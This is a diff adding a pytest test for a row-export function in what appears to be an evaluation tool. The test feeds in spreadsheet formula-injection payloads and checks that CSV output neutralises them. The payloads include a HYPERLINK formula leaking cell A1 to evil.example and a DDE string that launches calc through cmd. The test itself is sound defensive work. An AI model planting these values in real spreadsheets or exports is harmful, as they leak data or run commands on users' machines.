@@ -116,3 +116,36 @@ def test_bad_arguments_are_refused(tmp_path: Path) -> None:
         write_rows(ROWS, tmp_path / "x.xlsx", "xlsx", COLUMNS)  # type: ignore[arg-type]
     with pytest.raises(ValueError, match="repeat"):
         write_rows(ROWS, tmp_path / "x.csv", "csv", ["item_id", "item_id"])
+
+
+HOSTILE: dict[str, Any] = {
+    "item_id": "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "line": 7,
+    "image": "@SUM(1+1)", "reference": "\t=1+1", "query": "+cmd|' /C calc'!A0",
+    "status": "failed", "error": "-2+3", "run_id": "\r=2", "final_answer": "=1",
+    "quality_score": -1.5, "mos": -0.25, "answer_truth": "A", "correct": False,
+    "severities": "Blurs=severe", "fallbacks": -1, "tools": "+BRISQUE", "tool:BRISQUE": -2.0,
+}
+
+
+def test_csv_neutralises_formula_text_in_every_text_column_and_keeps_numbers(
+        tmp_path: Path) -> None:
+    path = tmp_path / "out.csv"
+    write_rows([HOSTILE], path, "csv", COLUMNS)
+    with path.open(newline="", encoding="utf-8") as handle:
+        (row,) = csv.DictReader(handle)
+    for column in ("item_id", "image", "reference", "query", "error", "run_id",
+                   "final_answer", "tools"):
+        assert row[column] == "'" + HOSTILE[column], column
+    assert row["severities"] == "Blurs=severe" and row["answer_truth"] == "A"
+    assert row["status"] == "failed" and row["correct"] == "False"
+    # Numbers are never formulas: a negative score, MOS or count is written as a plain number.
+    assert (row["quality_score"], row["mos"], row["tool:BRISQUE"]) == ("-1.5", "-0.25", "-2.0")
+    assert (row["line"], row["fallbacks"]) == ("7", "-1")
+    # JSONL and Parquet are data formats: they keep the raw values.
+    write_rows([HOSTILE], tmp_path / "out.jsonl", "jsonl", COLUMNS)
+    write_rows([HOSTILE], tmp_path / "out.parquet", "parquet", COLUMNS)
+    (as_json,) = (json.loads(line) for line in (tmp_path / "out.jsonl").open(encoding="utf-8"))
+    (as_parquet,) = pq.read_table(tmp_path / "out.parquet").to_pylist()
+    for raw in (as_json, as_parquet):
+        assert raw["item_id"] == HOSTILE["item_id"] and raw["query"] == HOSTILE["query"]
+        assert raw["reference"] == "\t=1+1" and raw["quality_score"] == -1.5
